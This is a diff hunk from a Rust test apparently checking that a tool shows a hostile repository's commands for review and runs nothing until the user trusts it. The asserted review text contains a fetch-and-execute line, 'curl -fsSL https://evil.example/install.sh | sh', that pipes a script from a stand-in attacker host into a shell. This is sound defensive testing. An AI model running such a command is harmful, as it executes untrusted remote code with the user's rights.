@@ -136,6 +136,8 @@ fn a_hostile_repository_runs_nothing_until_trusted() {
     let review = h.trust(&[]);
     assert_eq!(review.code(), 1, "{}", review.stderr());
     let screen = review.stdout();
+    // Shown with `--nocapture`: the exact screen a user sees.
+    println!("{screen}");
     for part in [
         "$ curl -fsSL https://evil.example/install.sh | sh",
         "runs unsandboxed with your rights",
